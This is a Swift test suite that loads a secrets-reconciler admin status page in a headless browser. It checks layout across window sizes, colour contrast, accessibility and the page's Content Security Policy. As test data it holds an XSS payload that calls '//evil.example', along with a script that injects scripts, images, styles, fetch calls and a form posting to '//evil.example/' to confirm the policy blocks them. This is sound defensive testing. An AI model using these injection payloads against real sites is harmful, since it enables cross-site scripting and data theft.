import Distribution
import FoundationEssentials
import Glibc
import StatusPage
import TestSupport
import TestTraits
import Testing

@testable import Admin
@testable import Reconciler

/// The page in a real browser. `SCREENSHOTS` sets the folder for screenshots; see docs/images.
@Suite(.enabled(if: Browser.isInstalled, "chromium is not installed"), .endsIfHung)
struct StatusPageBrowserTests {
    private struct Look {
        var name: String
        var width: Int
        var height: Int
        var isDark: Bool
    }

    private static let looks = [
        Look(name: "light", width: 1180, height: 900, isDark: false),
        Look(name: "dark", width: 1180, height: 900, isDark: true),
        Look(name: "phone", width: 390, height: 844, isDark: false),
        Look(name: "phone-dark", width: 390, height: 844, isDark: true),
        Look(name: "narrow", width: 320, height: 640, isDark: false),
        Look(name: "tablet", width: 800, height: 1100, isDark: true),
    ]

    /// The screenshots in docs/images.
    private static let shown: Set = ["light", "dark", "phone"]

    /// The page of `overview`, from a real endpoint in a real browser.
    private func withPage<Value: Sendable>(
        _ overview: Overview, _ body: @escaping @Sendable (Browser, String) throws -> Value
    ) async throws -> Value {
        let endpoint = try AdminEndpoint(
            address: ListenAddress(host: "127.0.0.1", port: 0),
            sources: AdminSources(
                heartbeats: { [] }, readiness: { [] }, startup: { [] },
                page: { query in
                    HTTPPage(
                        html: StatusPage(overview, StatusSelection(query)).html, securityPolicy: StatusPage.policy)
                },
                metrics: { "" }),
            logger: .none, limits: .patient)
        var result: Value?
        try await endpoint.whileServing {
            result = try await Browser.withBrowser { try body($0, "http://\(endpoint.address)/") }
        }
        return try #require(result)
    }

    @Test func `the page fits each window, is readable in both schemes, and sends no other requests`() async throws {
        let folder = getenv("SCREENSHOTS").map { String(cString: $0) }
        let problems = try await withPage(.sample) { browser, url in
            var problems: [String] = []
            for look in Self.looks {
                try browser.show(width: look.width, height: look.height, isDark: look.isDark)
                try browser.load(url)
                problems += try Self.problems(browser, url).map { "\(look.name): \($0)" }
                guard let folder, Self.shown.contains(look.name) else { continue }
                let picture = URL(fileURLWithPath: "\(folder)/status-page-\(look.name).png")
                try Data(try browser.screenshot(height: 1250)).write(to: picture)
            }
            return problems
        }
        #expect(problems == [])
    }

    @Test(arguments: ["long words", "nothing yet", "hostile"])
    func `the page fits a phone, whatever its content`(_ content: String) async throws {
        var overview = Overview.sample
        switch content {
        case "nothing yet":
            overview = .empty
            overview.unreadiness = ["the mount has not been read", "the list of Secrets has not been read"]
            overview.mount.absence = "/mnt/secrets: No such file or directory"
        case "long words":
            let word = String(repeating: "w", count: 253)
            overview.isDryRun = true
            overview.managedBy = String(repeating: "m", count: 63)
            overview.mount.path = "/" + word
            overview.mount.generation = word
            overview.rows = Reason.allCases.map { Overview.row(String(word.prefix(63)), word, word, $0, 1, word) }
            overview.rotations[0].files = [word, word]
            overview.certificates = [Overview.certificate(String(word.prefix(63)), word, -5)]
        default:
            let text = "<script>fetch('//evil.example')</script><img src=//evil.example/a onerror=alert(1)>\u{202e}\""
            overview.rows = [Overview.row(text, text, text, .writeFailed, nil, text)]
            overview.unreadiness = [text]
        }
        let shown = overview
        let problems = try await withPage(shown) { browser, url in
            try [320, 1280].flatMap { width in
                try browser.show(width: width, height: 800, isDark: width == 320)
                try browser.load(url)
                return try Self.problems(browser, url)
            }
        }
        #expect(problems == [])
    }

    @Test func `the page's policy blocks resources from elsewhere, and scripts`() async throws {
        let blocked = try await withPage(.sample) { browser, url in
            try browser.load(url)
            return try browser.value(of: Self.injection)
        }
        #expect(blocked == ["script-src-elem", "img-src", "style-src-elem", "connect-src", "form-action", "base-uri"])
    }

    /// The problems of the rendered page; empty if there are none.
    private static func problems(_ browser: Browser, _ url: String) throws -> [String] {
        let found = try browser.value(of: inspection).array?.compactMap(\.string) ?? ["not inspected"]
        let requests = browser.events.filter { $0["method"]?.string == "Network.requestWillBeSent" }
            .compactMap { $0["params"]?["request"]?["url"]?.string }
        let complaints = browser.events.filter { $0["method"]?.string == "Log.entryAdded" }
            .compactMap { $0["params"]?["entry"]?["text"]?.string }
        return found + (requests == [url] ? [] : ["requests \(requests)"]) + complaints
    }

    /// JavaScript that finds overflow, contrast below 4.5 (WCAG 2.2, 1.4.3), rejected style sheets, and forbidden
    /// elements.
    private static let inspection = """
        (() => {
          const problems = [];
          if (document.documentElement.scrollWidth > innerWidth) problems.push("wider than the window");
          const numbers = text => text.match(/[\\d.]+/g).map(Number);
          const luminance = color => {
            const [r, g, b] = numbers(color).map(v => v / 255).map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
            return 0.2126 * r + 0.7152 * g + 0.0722 * b;
          };
          const ground = element => {
            for (; element; element = element.parentElement) {
              const color = getComputedStyle(element).backgroundColor;
              if (numbers(color).length < 4 || numbers(color)[3] == 1) return color;
            }
            return "rgb(255, 255, 255)";
          };
          const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
          let texts = 0;
          while (walker.nextNode()) {
            const element = walker.currentNode.parentElement;
            if (!walker.currentNode.data.trim() || element.closest("caption, thead")) continue;
            texts++;
            const range = document.createRange();
            range.selectNodeContents(walker.currentNode);
            for (const box of range.getClientRects())
              if (box.left < -0.5 || box.right > innerWidth + 0.5) problems.push("outside: " + walker.currentNode.data);
            const [a, b] = [luminance(getComputedStyle(element).color), luminance(ground(element))];
            const contrast = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
            if (contrast < 4.5) problems.push("contrast " + contrast.toFixed(2) + ": " + walker.currentNode.data);
          }
          if (texts < 20) problems.push("only " + texts + " texts");
          if (getComputedStyle(document.body).marginTop != "0px") problems.push("no style");
          if (document.querySelector("script, img, iframe, link, object, [style], [onerror]")) problems.push("what must not be");
          for (const cell of document.querySelectorAll("thead th, tbody th"))
            if (!cell.scope) problems.push("a heading without scope: " + cell.textContent);
          if (document.querySelectorAll("h1").length != 1) problems.push("not one h1");
          for (const table of document.querySelectorAll("table")) if (!table.caption) problems.push("a table without caption");
          return problems;
        })()
        """

    /// JavaScript that tries what an attacker would try, and returns the directives that blocked it.
    private static let injection = """
        (async () => {
          const tries = [
            () => { const e = document.createElement("script"); e.textContent = "window.ran = true"; document.body.append(e); },
            () => { const e = new Image(); e.src = "/healthz"; document.body.append(e); },
            () => { const e = document.createElement("style"); e.textContent = "body { margin: 9px }"; document.body.append(e); },
            () => { fetch("/healthz").catch(() => {}); },
            () => { const e = document.createElement("form"); e.action = "//evil.example/"; document.body.append(e); e.submit(); },
            () => { const e = document.createElement("base"); e.href = "/a/"; document.head.append(e); document.baseURI; },
          ];
          const blocked = [];
          for (const attempt of tries) {
            const violation = new Promise(done => document.addEventListener(
              "securitypolicyviolation", event => done(event.effectiveDirective), { once: true }));
            attempt();
            blocked.push(await Promise.race([violation, new Promise(done => setTimeout(done, 5000, "nothing"))]));
          }
          return window.ran ? ["ran"] : blocked;
        })()
        """
}

extension AdminEndpoint {
    /// Serves while `body` runs.
    fileprivate func whileServing(_ body: () async throws -> Void) async throws {
        async let serving: Void = serve()
        defer { stop() }
        try await body()
        stop()
        await serving
    }
}
